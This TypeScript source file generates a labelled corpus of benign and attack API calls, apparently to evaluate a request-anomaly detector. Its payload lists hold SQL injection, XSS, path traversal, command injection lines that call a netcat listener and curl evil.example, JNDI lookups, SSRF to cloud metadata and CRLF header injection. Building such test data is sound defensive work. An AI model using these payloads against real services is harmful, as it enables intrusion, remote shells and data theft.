import { randomFrom } from './program.ts';

type Random = () => number;
type Parameters = Record<string, unknown>;

/** A labelled call of the evaluation corpus. */
export interface LabelledCall {
  endpoint: string;
  parameters: Parameters;
  attack: boolean;
  /** What it is an example of, `benign: …` or `attack: …`. */
  variant: string;
}

interface ParameterKind {
  names: string[];
  /** An ordinary value; `share` (0 to 1) is how far the time has gone, for what grows. */
  draw: (random: Random, share: number) => unknown;
  /** Unusual but harmless. */
  benign: [variant: string, draw: (random: Random) => unknown][];
  attacks: [variant: string, draw: (random: Random) => unknown][];
}

const pick = <T>(random: Random, from: readonly T[]): T => from[Math.floor(random() * from.length)]!;
const integer = (random: Random, low: number, high: number): number =>
  low + Math.floor(random() * (high - low + 1));
const chars = (random: Random, length: number, alphabet: string): string =>
  Array.from({ length }, () => alphabet[Math.floor(random() * alphabet.length)]!).join('');
const HEX = '0123456789abcdef';
const BASE64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
const words =
  'the order was late and my parcel is still not here please call me back as soon as you can we would like blue shoes in size with two laces for a friend from next week thank you very much it does work only on the phone but select all that apply or drop a note when table is free'.split(
    ' ',
  );
const firstNames = [
  'Ana',
  'Bob',
  'Chen',
  'Dmitri',
  'Eve',
  'Fatima',
  'Goran',
  'Hana',
  'Ivan',
  'Jürgen',
  'Kofi',
  'Lena',
  'Marie',
  'Nils',
  'Olga',
  'Pablo',
  'Quinn',
  'Rosa',
  'Søren',
  'Tariq',
];
const sentence = (random: Random, least: number, most: number): string => {
  const text = Array.from({ length: integer(random, least, most) }, () => pick(random, words)).join(' ');
  return text[0]!.toUpperCase() + text.slice(1) + pick(random, ['', '.', '!', '?', ', thanks', ' :)']);
};
/** Zipf-like choice: the first values are the most usual ones. */
const mostly = <T>(random: Random, from: readonly T[]): T =>
  from[Math.min(from.length - 1, Math.floor(-Math.log(1 - random()) * from.length * 0.25))]!;

const sql = [
  "1' OR '1'='1",
  '1; DROP TABLE users--',
  "' UNION SELECT password FROM users--",
  '1 AND SLEEP(5)',
  "admin'--",
  '1 OR 1=1',
];
const xss = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(document.cookie)',
  '<svg/onload=alert(1)>',
];
const traversal = ['../../etc/passwd', '..\\..\\windows\\win.ini', '....//....//etc/hosts', '/etc/passwd'];
const command = [
  '; cat /etc/passwd',
  '$(whoami)',
  '| nc 10.0.0.1 4444',
  '`id`',
  '&& curl http://evil.example/x',
];
const template = [
  '{{7*7}}',
  '${jndi:ldap://evil.example/a}',
  '<%= 7*7 %>',
  '#{7*7}',
  '${${lower:j}ndi:ldap://x/a}',
];
const injections: ParameterKind['attacks'] = [
  ['SQL injection', (random) => pick(random, sql)],
  ['cross-site scripting', (random) => pick(random, xss)],
  ['traversal', (random) => pick(random, traversal)],
  ['command injection', (random) => pick(random, command)],
  ['template or JNDI', (random) => pick(random, template)],
];
const encodings: ParameterKind['attacks'] = [
  [
    'double encoding',
    (random) => pick(random, ['%252e%252e%252fetc', '%2527%2520or%25201', '%253Cscript%253E']),
  ],
  ['null byte', (random) => pick(random, ['1\u0000', 'a%00.png', 'x\u0000y'])],
  ['CRLF', (random) => pick(random, ['x\r\nSet-Cookie: a=b', 'x%0d%0aLocation: http://evil.example'])],
];
const empty: ParameterKind['benign'][number] = ['empty value', () => ''];

/** Parameters as real APIs have them. Half of the kinds of endpoints made from them are tuned on, half are reported on. */
export const parameterKinds: ParameterKind[] = [
  {
    names: ['id', 'order_id', 'customer', 'account'],
    draw: (random, share) => String(100_000 + Math.floor(20_000 * share) + integer(random, 0, 500)),
    benign: [['ids that grow', (random) => String(integer(random, 121_000, 135_000))], empty],
    attacks: [
      ...injections,
      ...encodings,
      ['letters in an id', (random) => pick(random, ['abc', 'admin', 'null', '12a45', 'undefined'])],
      ['negative id', () => '-1'],
      ['length x 20', (random) => chars(random, 140, '0123456789')],
    ],
  },
  {
    names: ['limit', 'per_page', 'page_size', 'count'],
    draw: (random) => String(mostly(random, [20, 50, 10, 100, 25])),
    benign: [['another size', (random) => String(pick(random, [30, 40, 75, 5, 150]))], empty],
    attacks: [
      ...injections.slice(0, 2),
      ['magnitude break', (random) => String(pick(random, [1_000_000, 99_999, 2_147_483_647]))],
      ['negative', () => '-1'],
      ['exponent', () => '1e9'],
    ],
  },
  {
    names: ['page', 'offset_page', 'p'],
    draw: (random) => Math.min(60, Math.ceil(-Math.log(1 - random()) * 3)),
    benign: [['a later page', (random) => integer(random, 20, 30)]],
    attacks: [...injections.slice(0, 2), ['magnitude break', () => 99_999_999], ['negative', () => -5]],
  },
  {
    names: ['price', 'amount', 'total', 'unit_price'],
    draw: (random) => Number((5 + 95 * random() ** 2 * (random() < 0.1 ? 10 : 1)).toFixed(2)),
    benign: [
      ['a higher price', (random) => Number((1_000 + 900 * random()).toFixed(2))],
      ['locale decimal', (random) => `${integer(random, 6, 90)},${integer(random, 10, 99)}`],
      ['whole price', (random) => integer(random, 6, 90)],
    ],
    attacks: [
      ['price of nothing', () => 0.01],
      ['negative', () => -1],
      ['magnitude break', () => 10_000_000],
      ['SQL injection', (random) => pick(random, sql)],
    ],
  },
  {
    names: ['quantity', 'qty', 'items'],
    draw: (random) => integer(random, 1, 4),
    benign: [['a few more', (random) => integer(random, 5, 8)]],
    attacks: [
      ['negative', () => -3],
      ['magnitude break', () => 100_000],
      ['letters', () => 'many'],
    ],
  },
  {
    names: ['status', 'state', 'order_status'],
    draw: (random) => mostly(random, ['paid', 'open', 'shipped', 'cancelled', 'returned']),
    benign: [['case change', (random) => pick(random, ['PAID', 'Open', 'Shipped'])], empty],
    attacks: [
      ...injections,
      ['off the enum', (random) => pick(random, ['refunded_manual', 'superuser', 'approved', 'deleted'])],
      ['length x 20', (random) => chars(random, 160, 'abcdef')],
    ],
  },
  {
    names: ['sort', 'order_by'],
    draw: (random) => mostly(random, ['created_at', '-created_at', 'name', 'price']),
    benign: [['case change', () => 'CREATED_AT'], empty],
    attacks: [
      [
        'SQL injection',
        (random) => pick(random, ['(select sleep(5))', 'name; drop table x', 'if(1=1,name,price)']),
      ],
      ['off the enum', (random) => pick(random, ['password', 'password_hash', 'is_admin'])],
    ],
  },
  {
    names: ['lang', 'country', 'currency'],
    draw: (random) =>
      mostly(random, [
        'de',
        'en',
        'fr',
        'it',
        'es',
        'pl',
        'nl',
        'sv',
        'pt',
        'cs',
        'da',
        'fi',
        'hu',
        'ro',
        'bg',
        'el',
        'hr',
      ]),
    benign: [['case change', () => 'DE'], empty],
    attacks: [...injections.slice(2), ['off the enum', () => 'zzzzzz9']],
  },
  {
    names: ['active', 'include_archived', 'verbose'],
    draw: (random) => pick(random, ['true', 'false']),
    benign: [['case change', () => 'True'], empty],
    attacks: [
      ...injections.slice(0, 1),
      ['type break', (random) => pick(random, ['banana', '[object Object]'])],
    ],
  },
  {
    names: ['q', 'search', 'comment', 'message'],
    draw: (random) => sentence(random, 1, 14),
    benign: [
      ['ordinary sentence', (random) => sentence(random, 8, 30)],
      [
        'apostrophe',
        (random) => pick(random, ["O'Brien & sons", "don't drop the table", 'rock & roll; or jazz']),
      ],
      ['select all that apply', () => 'Select all that apply from the list, or update your order'],
      [
        'other scripts',
        (random) =>
          pick(random, [
            '请尽快联系我',
            'أين طلبي؟',
            'Где мой заказ',
            '注文はどこですか。',
            'Σας ευχαριστώ πολύ',
          ]),
      ],
      ['emoji', (random) => pick(random, ['👍🏽 great!', 'thanks 🙏', '❤️❤️'])],
      ['number', () => '42'],
      empty,
    ],
    attacks: [
      ['length x 20', (random) => sentence(random, 300, 400)],
      ['null byte', () => 'hello\u0000world'],
      ['cross-site scripting', (random) => pick(random, xss.slice(0, 2))],
      ['template or JNDI', (random) => pick(random, template.slice(0, 2))],
    ],
  },
  {
    names: ['name', 'first_name', 'contact'],
    draw: (random) =>
      pick(random, firstNames) +
      (random() < 0.7 ? ` ${pick(random, firstNames)}${pick(random, ['son', 'ova', 'ez', '', 'er'])}` : ''),
    benign: [
      ['apostrophe', () => "Sinéad O'Brien"],
      ['hyphen', () => 'Anne-Marie Dupont-Leroy'],
      ['other script', () => '李雷'],
      ['long name', () => 'Maria da Conceição dos Santos Oliveira'],
      ['initial', () => 'J. R. Smith'],
    ],
    attacks: [
      ['cross-site scripting', (random) => pick(random, xss.slice(0, 2))],
      ['length x 20', (random) => chars(random, 600, 'abcdefg ')],
      ['template or JNDI', (random) => pick(random, template.slice(0, 2))],
    ],
  },
  {
    names: ['username', 'login', 'handle'],
    draw: (random) =>
      pick(random, firstNames)
        .normalize('NFD')
        .replace(/[^a-z]/gi, '')
        .toLowerCase() +
      pick(random, ['', '', String(integer(random, 1, 99)), '_' + pick(random, ['dev', 'x', 'home'])]) +
      chars(random, 2, 'abcdefgh'),
    benign: [
      ['dots and dashes', (random) => pick(random, ['jean-luc', 'anna.b', 'max_power_99'])],
      ['upper case', () => 'JohnDoe'],
    ],
    attacks: [
      ['SQL injection', (random) => pick(random, sql)],
      ['cross-site scripting', (random) => pick(random, xss)],
      ['CRLF', () => 'bob\r\nSet-Cookie: admin=1'],
    ],
  },
  {
    names: ['token', 'jwt', 'session'],
    draw: (random) =>
      `eyJ${chars(random, integer(random, 60, 200), BASE64)}.${chars(random, integer(random, 80, 300), BASE64)}.${chars(random, 43, BASE64)}`,
    benign: [
      [
        'a longer token',
        (random) =>
          `eyJ${chars(random, 300, BASE64)}.${chars(random, 700, BASE64)}.${chars(random, 86, BASE64)}`,
      ],
      empty,
    ],
    attacks: [
      ['SQL injection', (random) => pick(random, sql)],
      ['traversal', (random) => pick(random, traversal)],
    ],
  },
  {
    names: ['cursor', 'after', 'continuation'],
    draw: (random) => chars(random, integer(random, 24, 40), BASE64) + pick(random, ['', '=', '==']),
    benign: [['a longer cursor', (random) => chars(random, 72, BASE64)], empty],
    attacks: [
      ['SQL injection', (random) => pick(random, sql)],
      ['traversal', (random) => pick(random, traversal)],
      ['command injection', (random) => pick(random, command)],
    ],
  },
  {
    names: ['uuid', 'customer_id', 'correlation'],
    draw: (random) => [8, 4, 4, 4, 12].map((length) => chars(random, length, HEX)).join('-'),
    benign: [
      [
        'upper case',
        (random) =>
          [8, 4, 4, 4, 12]
            .map((length) => chars(random, length, HEX))
            .join('-')
            .toUpperCase(),
      ],
    ],
    attacks: [...injections.slice(0, 3), ['type break', (random) => pick(random, ['1', 'admin', '0'])]],
  },
  {
    names: ['from', 'since', 'date'],
    draw: (random, share) =>
      new Date(1_760_000_000_000 + share * 30 * 86_400_000 + random() * 5 * 86_400_000)
        .toISOString()
        .slice(0, 10),
    benign: [
      [
        'later',
        (random) => new Date(1_764_000_000_000 + random() * 90 * 86_400_000).toISOString().slice(0, 10),
      ],
      ['last year', () => '2024-12-31'],
      empty,
    ],
    attacks: [
      ['SQL injection', (random) => pick(random, sql)],
      ['far away', () => '9999-12-31'],
      ['type break', () => 'yesterday_or_so'],
    ],
  },
  {
    names: ['timestamp', 'ts', 'created'],
    draw: (random, share) => Math.floor(1_760_000_000 + share * 2_592_000 + random() * 10_000),
    benign: [['later', (random) => Math.floor(1_763_000_000 + random() * 5_000_000)]],
    attacks: [
      ['negative', () => -1],
      ['template or JNDI', (random) => pick(random, template)],
    ],
  },
  {
    names: ['email', 'mail', 'recipient'],
    draw: (random) => `~email~${chars(random, 22, BASE64)}`,
    benign: [['another address', (random) => `~email~${chars(random, 22, BASE64)}`]],
    attacks: [
      ['SQL injection', (random) => pick(random, sql)],
      ['CRLF', () => 'a\r\nBcc: everyone'],
    ],
  },
  {
    names: ['filter', 'query', 'where'],
    draw: (random) =>
      JSON.stringify({ status: pick(random, ['open', 'paid']), from: integer(random, 1, 900) }),
    benign: [
      [
        'URL-encoded JSON',
        (random) => encodeURIComponent(JSON.stringify({ status: 'open', from: integer(random, 1, 900) })),
      ],
      ['another member', () => JSON.stringify({ status: 'paid', from: 3, until: 9 })],
      empty,
    ],
    attacks: [
      ['query operator', () => '{"status":{"$ne":null}}'],
      ['SQL injection', (random) => pick(random, sql)],
    ],
  },
  {
    names: ['path', 'file', 'document'],
    draw: (random) =>
      `/${pick(random, ['docs', 'img', 'reports'])}/${chars(random, integer(random, 3, 9), 'abcdefghijkl')}.${pick(random, ['pdf', 'png', 'txt'])}`,
    benign: [['deeper', (random) => `/docs/${chars(random, 5, 'abcdef')}/${chars(random, 5, 'abcdef')}.pdf`]],
    attacks: [
      ['traversal', (random) => pick(random, traversal.slice(0, 3))],
      [
        'server-side request',
        (random) =>
          pick(random, [
            'http://169.254.169.254/latest/meta-data/',
            'http://localhost:8001/',
            'gopher://10.0.0.5:6379/_x',
            'https://evil.example/a.png',
          ]),
      ],
      [
        'hidden file',
        (random) =>
          pick(random, ['/docs/config.php.bak', '/docs/index.php~', '/.git/config', '/docs/abcde.pdf.old']),
      ],
      ['null byte', () => '/docs/a.php%00.pdf'],
    ],
  },
  {
    names: ['callback', 'redirect', 'return_url'],
    draw: (random) =>
      `https://app.example.com/${pick(random, ['orders', 'account', 'cart'])}/${integer(random, 1, 5_000)}`,
    benign: [
      ['with a query', (random) => `https://app.example.com/orders/${integer(random, 1, 5000)}?tab=2`],
    ],
    attacks: [
      [
        'server-side request',
        (random) =>
          pick(random, [
            'http://169.254.169.254/latest/meta-data/',
            'http://127.0.0.1:8001/',
            'file:///etc/passwd',
          ]),
      ],
      ['cross-site scripting', () => 'javascript:alert(1)'],
    ],
  },
  {
    names: ['sku', 'product', 'article'],
    draw: (random) => `SKU-${integer(random, 1000, 9999)}`,
    benign: [['lower case', (random) => `sku-${integer(random, 1000, 9999)}`]],
    attacks: [
      ...injections.slice(0, 4),
      ['type break', (random) => pick(random, ['*', 'all', 'SKU-12A4-X%'])],
    ],
  },
  {
    names: ['slug', 'title', 'topic'],
    draw: (random) =>
      Array.from({ length: integer(random, 2, 6) }, () => pick(random, words)).join('-') +
      (random() < 0.2 ? `-${integer(random, 2019, 2026)}` : ''),
    benign: [['longer', (random) => Array.from({ length: 9 }, () => pick(random, words)).join('-')]],
    attacks: [...injections.slice(0, 3)],
  },
  {
    names: ['tags[]', 'ids[]', 'categories[]'],
    draw: (random) => Array.from({ length: integer(random, 1, 4) }, () => String(integer(random, 1, 300))),
    benign: [
      ['a few more', () => ['1', '2', '3', '4', '5', '6']],
      ['re-ordered', () => ['3', '1', '2']],
    ],
    attacks: [
      ['SQL injection', (random) => ['1', pick(random, sql)]],
      ['batch', () => Array.from({ length: 60 }, (_, at) => String(at))],
    ],
  },
  {
    names: ['fields', 'include', 'expand'],
    draw: (random) =>
      ['id', 'name', 'total', 'status', 'customer'].filter(() => random() < 0.6).join(',') || 'id',
    benign: [['re-ordered', () => 'status,total,id'], empty],
    attacks: [
      ['off the enum', () => 'id,password_hash'],
      ['SQL injection', (random) => pick(random, sql)],
    ],
  },
  {
    names: ['etag', 'hash', 'version'],
    draw: (random) => chars(random, 40, HEX),
    benign: [['upper case', (random) => chars(random, 40, HEX).toUpperCase()]],
    attacks: [...injections.slice(0, 2), ['length x 20', (random) => chars(random, 900, HEX)]],
  },
  {
    names: ['lat', 'lon', 'longitude'],
    draw: (random) => Number((random() * 180 - 90).toFixed(5)),
    benign: [
      ['whole', () => 12],
      ['another place', (random) => Number((random() * 170 - 85).toFixed(5))],
    ],
    attacks: [
      ['magnitude break', () => 99_999_999],
      ['SQL injection', (random) => pick(random, sql)],
    ],
  },
];

/** What is added to or taken from a whole call. */
const benignCalls: [variant: string, change: (call: Parameters, random: Random) => Parameters][] = [
  [
    'UTM parameters',
    (call) => ({
      ...call,
      utm_source: 'newsletter',
      utm_campaign: 'spring-sale',
      gclid: 'EAIaIQobChMI-abc_DEF123',
    }),
  ],
  ['re-ordered', (call) => Object.fromEntries(Object.entries(call).reverse())],
  ['null', (call, random) => ({ ...call, [pick(random, Object.keys(call))]: null })],
];
const attackCalls: [variant: string, change: (call: Parameters, random: Random) => Parameters][] = [
  [
    'mass assignment',
    (call, random) => ({
      ...call,
      ...pick<Parameters>(random, [
        { role: 'admin' },
        { is_admin: true },
        { user: { role: 'admin' } },
        { balance: 100_000 },
      ]),
    }),
  ],
  ['debug flag', (call) => ({ ...call, debug: 'true' })],
  [
    'parameter pollution',
    (call, random) => {
      const names = Object.keys(call).filter((name) => !name.endsWith('[]'));
      if (names.length === 0) return { ...call, debug: '1' };
      const name = pick(random, names);
      return { ...call, [name]: [call[name], call[name]] };
    },
  ],
];

export interface CorpusEndpoint {
  endpoint: string;
  training: Parameters[];
  test: LabelledCall[];
}

/**
 * Endpoints of 2 to 6 parameters of random kinds, each optional or not, with `calls` ordinary calls to learn from and labelled ones to
 * judge. `strays` is the share of attacks among those to learn from.
 */
export function parameterCorpus(options: {
  seed: number;
  endpoints: number;
  calls: number;
  strays: number;
}): CorpusEndpoint[] {
  const random = randomFrom(options.seed);
  const corpus: CorpusEndpoint[] = [];
  for (let at = 0; at < options.endpoints; at++) {
    const endpoint = `GET /service-${at}`;
    const chosen = new Map<string, { kind: ParameterKind; present: number }>();
    const size = integer(random, 2, 6);
    while (chosen.size < size) {
      const kind = pick(random, parameterKinds);
      chosen.set(pick(random, kind.names), { kind, present: pick(random, [1, 1, 0.9, 0.4, 0.1]) });
    }
    const draw = (share: number, always?: string): Parameters => {
      const call: Parameters = {};
      for (const [name, { kind, present }] of chosen) {
        if (name === always || random() < present) call[name] = kind.draw(random, share);
      }
      return call;
    };
    const attacked = (): LabelledCall => {
      const [name, { kind }] = pick(random, [...chosen]);
      if (random() < 0.2 || kind.attacks.length === 0) {
        const [variant, change] = pick(random, attackCalls);
        return {
          endpoint,
          parameters: change(draw(1, name), random),
          attack: true,
          variant: `attack: ${variant}`,
        };
      }
      const [variant, value] = pick(random, kind.attacks);
      return {
        endpoint,
        parameters: { ...draw(1), [name]: value(random) },
        attack: true,
        variant: `attack: ${variant}`,
      };
    };
    const training = Array.from({ length: options.calls }, (_, call) =>
      random() < options.strays ? attacked().parameters : draw(call / options.calls),
    );
    const test: LabelledCall[] = [];
    for (let call = 0; call < 20; call++) {
      test.push({ endpoint, parameters: draw(1.05), attack: false, variant: 'benign: ordinary' });
      test.push(attacked());
      const [name, { kind }] = pick(random, [...chosen]);
      if (random() < 0.3) {
        const [variant, change] = pick(random, benignCalls);
        test.push({
          endpoint,
          parameters: change(draw(1, name), random),
          attack: false,
          variant: `benign: ${variant}`,
        });
      } else if (kind.benign.length > 0) {
        const [variant, value] = pick(random, kind.benign);
        test.push({
          endpoint,
          parameters: { ...draw(1), [name]: value(random) },
          attack: false,
          variant: `benign: ${variant}`,
        });
      }
    }
    corpus.push({ endpoint, training, test });
  }
  return corpus;
}
